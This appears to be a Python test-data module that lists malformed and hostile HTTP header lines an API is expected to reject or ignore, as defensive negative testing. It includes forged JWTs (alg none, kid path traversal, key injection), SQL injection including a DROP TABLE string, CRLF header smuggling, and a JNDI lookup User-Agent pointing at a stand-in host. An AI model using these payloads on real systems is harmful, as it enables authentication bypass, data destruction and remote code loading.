"""Header lines that a client should not send, by what they are meant for. `{token}` stands for a good publisher's token,
`{secret}` for a reseller's, `{id}` for a new UUID and `{digest}` for the right digest of the file that is sent."""

import base64
import hashlib
import hmac
import json
from typing import Any, Final

from tests.api.raw_http import PLANTED

Lines = tuple[str, ...]


def _encoded(part: object) -> str:
    raw = part if isinstance(part, bytes) else json.dumps(part).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _jwt(head: dict[str, Any], claims: dict[str, Any] | None = None, *, secret: bytes | None = PLANTED.encode()) -> str:
    signed = f"{_encoded(head)}.{_encoded(claims or _CLAIMS)}"
    signature = b"" if secret is None else hmac.digest(secret, signed.encode(), hashlib.sha256)
    return f"Authorization: Bearer {signed}.{_encoded(signature)}"


_CLAIMS: Final = {
    "sub": "admin",
    "scope": "publishers:write",
    "iss": "keyservice",
    "aud": "keyservice",
    "exp": 4102444800,
}
_HS: Final = {"alg": "HS256", "typ": "JWT"}
_BASIC: Final = base64.b64encode(f"admin:{PLANTED}".encode()).decode()

# Each is answered with 401 and in the same words.
AUTHORIZATION: Final[dict[str, Lines]] = {
    "none": (),
    "an empty one": ("Authorization:",),
    "blanks": ("Authorization:    ",),
    "a scheme alone": ("Authorization: Bearer",),
    "a scheme and a blank": ("Authorization: Bearer ",),
    "a token alone": ("Authorization: {token}",),
    "twice the same": ("Authorization: Bearer {token}", "Authorization: Bearer {token}"),
    "twice, the second empty": ("Authorization: Bearer {token}", "Authorization:"),
    "twice, the first wrong": (f"Authorization: Bearer {PLANTED}", "Authorization: Bearer {token}"),
    "twice in other cases": ("AUTHORIZATION: Bearer {token}", "authorization: Bearer {token}"),
    "two in one": ("Authorization: Bearer {token}, Bearer {token}",),
    "two tokens": ("Authorization: Bearer {token} {token}",),
    "another scheme": ("Authorization: Token {token}",),
    "a scheme with a colon": ("Authorization: Bearer: {token}",),
    "a scheme without a blank": ("Authorization: Bearer{token}",),
    "a tab for the blank": ("Authorization: Bearer\t{token}",),
    "quotation marks": ('Authorization: Bearer "{token}"',),
    "a parameter": ("Authorization: Bearer token={token}",),
    "padding": ("Authorization: Bearer {token}==",),
    "capitals": ("Authorization: Bearer {token_in_capitals}",),
    "a character less": ("Authorization: Bearer {token_cut}",),
    "a character more": ("Authorization: Bearer {token}a",),
    "another secret": ("Authorization: Bearer {token_of_another_secret}",),
    "an unknown one": ("Authorization: Bearer {unknown}",),
    "a revoked one": ("Authorization: Bearer {revoked}",),
    "full width": ("Authorization: Bearer \uff4b\uff53".encode().decode("latin-1"),),
    "bytes beyond ASCII": (f"Authorization: Bearer {PLANTED}\xff\xe9",),
    "bytes behind the token": ("Authorization: Bearer {token}\xa0",),
    "an escape": ("Authorization: Bearer {token}%00",),
    "basic": (f"Authorization: Basic {_BASIC}",),
    "basic with the token": ("Authorization: Basic {token}",),
    "basic of garbage": ("Authorization: Basic ====",),
    "bearer of basic": (f"Authorization: Bearer {_BASIC}",),
    "digest": (f'Authorization: Digest username="admin", response="{PLANTED}"',),
    "negotiate": ("Authorization: Negotiate YIIJ",),
    "8 KB": ("Authorization: Bearer ks_" + "a" * 8_000,),
    "8 KB of blanks": ("Authorization: Bearer" + " " * 8_000 + "x",),
    "SQL": ("Authorization: Bearer ks_' OR '1'='1",),
    "a token without algorithm": (_jwt({"alg": "none", "typ": "JWT"}, secret=None),),
    "a token with an algorithm in capitals": (_jwt({"alg": "NONE"}, secret=None),),
    "a token with a symmetric algorithm": (_jwt(_HS),),
    "a token with an empty secret": (_jwt(_HS, secret=b""),),
    "a token with a key file": (_jwt({**_HS, "kid": "../../../../dev/null"}, secret=b""),),
    "a token with a key of SQL": (_jwt({**_HS, "kid": "' UNION SELECT 'a' --"}),),
    "a token with a key server": (_jwt({**_HS, "jku": "http://127.0.0.1:1/jwks.json"}),),
    "a token with a certificate": (_jwt({**_HS, "x5u": "http://127.0.0.1:1/c.pem", "crit": ["x5u"]}),),
    "a token with a key of its own": (_jwt({**_HS, "jwk": {"kty": "oct", "k": _encoded(PLANTED.encode())}}),),
    "an expired token": (_jwt(_HS, {**_CLAIMS, "exp": 1}),),
    "a token of the future": (_jwt(_HS, {**_CLAIMS, "nbf": 4102444800}),),
    "a token that ends in a text": (_jwt(_HS, {**_CLAIMS, "exp": "never"}),),
    "a token without end": (_jwt(_HS, {"sub": "admin"}),),
    "a token in a token": (_jwt({**_HS, "cty": "JWT"}, {"jwt": _jwt(_HS)}),),
    "the header of the resellers": ("secret: {token}",),
    "a cookie": ("Cookie: Authorization=Bearer {token}; token={token}",),
    "the proxy's header": ("Proxy-Authorization: Bearer {token}", "X-Authorization: Bearer {token}"),
    "the header of a gateway": ("X-Api-Key: {token}", "X-Forwarded-User: admin", "X-Remote-User: admin"),
}  # fmt: skip

HARMLESS_AUTHORIZATION: Final[dict[str, Lines]] = {
    "as it is": ("Authorization: Bearer {token}",),
    "a scheme in small letters": ("authorization: bearer {token}",),
    "a scheme in capitals": ("AUTHORIZATION: BEARER {token}",),
    "more blanks": ("Authorization:   Bearer   {token}  ",),
}

# Each is answered with 401 and this code.
SECRET: Final[dict[str, tuple[Lines, int]]] = {
    "none": ((), 70),
    "an empty one": (("secret:",), 70),
    "blanks": (("secret:    ",), 70),
    "twice the same": (("secret: {secret}", "secret: {secret}"), 71),
    "twice, the first wrong": ((f"secret: {PLANTED}", "secret: {secret}"), 71),
    "two in one": (("secret: {secret},{secret}",), 71),
    "a scheme": (("secret: Bearer {secret}",), 71),
    "quotation marks": (('secret: "{secret}"',), 71),
    "bytes beyond ASCII": ((f"secret: {PLANTED}\xff",), 71),
    "8 KB": (("secret: " + PLANTED * 500,), 71),
    "SQL": (("secret: ' OR '1'='1",), 71),
    "the other header": (("Authorization: Bearer {secret}",), 70),
    "a cookie": (("Cookie: secret={secret}",), 70),
    "an unknown one": (("secret: {unknown}",), 71),
    "another secret": (("secret: {token_of_another_secret}",), 71),
    "a revoked one": (("secret: {revoked}",), 71),
}

# For an upload: each is answered with 422.
IDEMPOTENCY_KEY: Final[dict[str, Lines]] = {
    "an empty one": ("Idempotency-Key:",),
    "an empty string": ('Idempotency-Key: ""',),
    "a quotation mark": ('Idempotency-Key: "',),
    "no UUID": (f"Idempotency-Key: {PLANTED}",),
    "low entropy": ("Idempotency-Key: 1",),
    "an open string": ('Idempotency-Key: "{id}',),
    "an unopened string": ('Idempotency-Key: {id}"',),
    "a string in a string": ('Idempotency-Key: ""{id}""',),
    "single quotation marks": ("Idempotency-Key: '{id}'",),
    "braces": ("Idempotency-Key: {{{id}}}",),
    "a URN": ("Idempotency-Key: urn:uuid:{id}",),
    "without hyphens": ("Idempotency-Key: {bare_id}",),
    "a blank inside": ('Idempotency-Key: " {id}"',),
    "a parameter": ('Idempotency-Key: "{id}";a=1',),
    "two in one": ("Idempotency-Key: {id}, {id}",),
    "twice the same": ("Idempotency-Key: {id}", "Idempotency-Key: {id}"),
    "twice": ("Idempotency-Key: {id}", f"Idempotency-Key: {PLANTED}"),
    "a byte sequence": ("Idempotency-Key: :AbAbAbAbAbAbAbAbAbAbAA==:",),
    "bytes beyond ASCII": ("Idempotency-Key: {id}\xff",),
    "an emoji": ("Idempotency-Key: \U0001f511".encode().decode("latin-1"),),
    "256 characters": ("Idempotency-Key: " + "a" * 256,),
    "8 KB": ("Idempotency-Key: " + PLANTED * 500,),
    "SQL": ("Idempotency-Key: '; DROP TABLE batches; --",),
    "a path": ("Idempotency-Key: ../../{id}",),
}

# For an upload: each is answered with 422.
DIGEST: Final[dict[str, Lines]] = {
    "an empty one": ("Repr-Digest:",),
    "junk": (f"Repr-Digest: {PLANTED}",),
    "another file's": (f"Repr-Digest: sha-256=:{base64.b64encode(hashlib.sha256(b'').digest()).decode()}:",),
    "hexadecimal": ("Repr-Digest: sha-256={hex_digest}",),
    "hexadecimal in colons": ("Repr-Digest: sha-256=:{hex_digest}:",),
    "no colons": ("Repr-Digest: sha-256={digest}",),
    "one colon": ("Repr-Digest: sha-256=:{digest}",),
    "quotation marks": ('Repr-Digest: sha-256="{digest}"',),
    "capitals": ("Repr-Digest: SHA-256=:{digest}:",),
    "the old form": ("Repr-Digest: SHA-256={digest}",),
    "no bytes": ("Repr-Digest: sha-256=::",),
    "31 bytes": (f"Repr-Digest: sha-256=:{base64.b64encode(b'a' * 31).decode()}:",),
    "33 bytes": (f"Repr-Digest: sha-256=:{base64.b64encode(b'a' * 33).decode()}:",),
    "padding inside": ("Repr-Digest: sha-256=:=={digest}:",),
    "another alphabet": ("Repr-Digest: sha-256=:" + "_" * 43 + "=:",),
    "a comma at the end": ("Repr-Digest: sha-256=:{digest}:,",),
    "junk beside": (f"Repr-Digest: sha-256=:{{digest}}:, {PLANTED}",),
    "the right one and then another": (f"Repr-Digest: sha-256=:{{digest}}:, sha-256=:{'A' * 43}=:",),
    "the right line and then another": ("Repr-Digest: sha-256=:{digest}:", f"Repr-Digest: sha-256=:{'A' * 43}=:"),
    "bytes beyond ASCII": ("Repr-Digest: sha-256=:{digest}\xff:",),
    "8 KB": ("Repr-Digest: sha-256=:" + "A" * 8_000 + ":",),
}

# Nobody reads these; whoever sends them is served as if they were not there.
IGNORED: Final[dict[str, Lines]] = {
    "accepts nothing here": ("Accept: text/html;q=0.9, image/*",),
    "accepts junk": (f"Accept: {PLANTED};;;q=x",),
    "accepts no JSON": ("Accept: application/json;q=0, */*;q=0",),
    "languages": (f"Accept-Language: {PLANTED}, *;q=junk, xx-YY-zz",),
    "charsets": ("Accept-Charset: utf-16, *;q=0",),
    "encodings": ("Accept-Encoding: junk, identity;q=0, br;q=2",),
    "an entity tag": (f'If-None-Match: "{PLANTED}"', "If-None-Match: W/\"x\", 'y'"),
    "any entity tag": ("If-None-Match: *",),
    "a time of change": ("If-Modified-Since: tomorrow", "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"),
    "a range": ("Range: bytes=0-0",),
    "a range of junk": (f"Range: {PLANTED}",),
    "many ranges": ("Range: bytes=" + ",".join("0-0" for _ in range(1_000)),),
    "a range beyond the end": ("Range: bytes=99999999999999999999-", 'If-Range: "x"'),
    "a preference": (f"Prefer: respond-async, wait={PLANTED}, return=minimal",),
    "cookies of junk": (f"Cookie: =;;{PLANTED}=\x80\xff; a=b; a=c", "Cookie: $Version=1"),
    "no origin": ("Origin: null",),
    "a foreign origin": ("Origin: https://evil.test", "Referer: https://evil.test/", "Sec-Fetch-Site: cross-site"),
    "a preflight's headers": ("Access-Control-Request-Method: DELETE", "Access-Control-Request-Headers: secret"),
    "a forwarded address": ("X-Forwarded-For: 127.0.0.1, ::1, fe80::1%eth0, junk, " + "10.0.0.1, " * 100,),
    "a forwarded host": ("X-Forwarded-Host: evil.test", "X-Forwarded-Proto: gopher", "Forwarded: for=\"_x\";host=evil.test"),
    "a real address": ("X-Real-IP: ::ffff:127.0.0.1", "True-Client-IP: 127.0.0.1", "CF-Connecting-IP: junk"),
    "another method": ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: PATCH"),
    "another target": ("X-Original-URL: /admin/publishers", "X-Rewrite-URL: /admin/publishers"),
    "a trace": (f"traceparent: {PLANTED}", "tracestate: =,=,="),
    "a trace of version ff": ("traceparent: ff-" + "0" * 32 + "-" + "0" * 16 + "-00", "b3: 0"),
    "a skewed date": ("Date: Fri, 31 Feb 1899 25:61:61 GMT",),
    "a key for a request that needs none": (f"Idempotency-Key: {PLANTED}", "Idempotency-Key: \xff"),
    "a digest for a request without a file": ("Repr-Digest: junk", "Content-Digest: junk", "Want-Repr-Digest: md5=9"),
    "an upgrade": ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
    "hops": ("Via: 1.1 evil.test (\xff)", "Max-Forwards: -1", "TE: trailers, deflate;q=0.5", "Trailer: Authorization"),
    "an agent of 7 KB": ("User-Agent: " + "\xe9${jndi:ldap://x.test/a}" * 280,),
    "a from": ("From: a@example.com, b@example.com", "Pragma: junk", "Cache-Control: junk=\"", "Warning: 999"),
}  # fmt: skip

# What takes its place, or what is kept.
REQUEST_IDS: Final[dict[str, tuple[Lines, str | None]]] = {
    "a good one": (("X-Request-Id: 01a2f3c4-0000-7000-8000-0000000000aa",), "01a2f3c4-0000-7000-8000-0000000000aa"),
    "a key": (("X-Request-Id: R4T7K-2MNP9-XW3QH-6VJBD",), None),
    "4 KB": (("X-Request-Id: " + "a" * 4_096,), None),
    "an escaped line break": (("X-Request-Id: a%0d%0aX-Admin: 1",), None),
    "a planted one": ((f"X-Request-Id: {PLANTED} {PLANTED}",), None),
    "markup": (("X-Request-Id: <script>",), None),
    "a quotation mark": (('X-Request-Id: a"b',), None),
    "twice the same": (("X-Request-Id: a", "X-Request-Id: a"), None),
    "an empty one": (("X-Request-Id:",), None),
    "bytes beyond ASCII": (("X-Request-Id: a\xe9",), None),
    "a terminal's escape": (("X-Request-Id: a\\x1b[2J",), None),
}

# Refused before any audience is known, so that the answer is a problem document for everyone.
REFUSED_BY_THE_PARSER: Final[dict[str, tuple[Lines, int]]] = {
    "two content types": (("Content-Type: application/json",), 400),
    "two lengths": (("Content-Length: 0",), 400),
    "two hosts": ((f"Host: {PLANTED}",), 400),
    "a length and chunks": (("Transfer-Encoding: chunked",), 400),
    "an unknown coding": ((f"Transfer-Encoding: {PLANTED}",), 400),
    "NUL": ((f"X-A: {PLANTED}\0",), 400),
    "a control character": ((f"secret: {PLANTED}\x07",), 400),
    "a bare return": ((f"Authorization: Bearer {PLANTED}\rX-Admin: 1",), 400),
    "a folded line": (("Authorization: Bearer", f" {PLANTED}"), 400),
    "a name of bytes": ((f"Auth\xe9: {PLANTED}",), 400),
    "a name with a blank": ((f"Author ization: {PLANTED}",), 400),
    "9 KB": ((f"Authorization: Bearer {PLANTED * 650}",), 400),
    "150 of them": (tuple(f"X-{number}: {PLANTED}" for number in range(150)), 400),
}
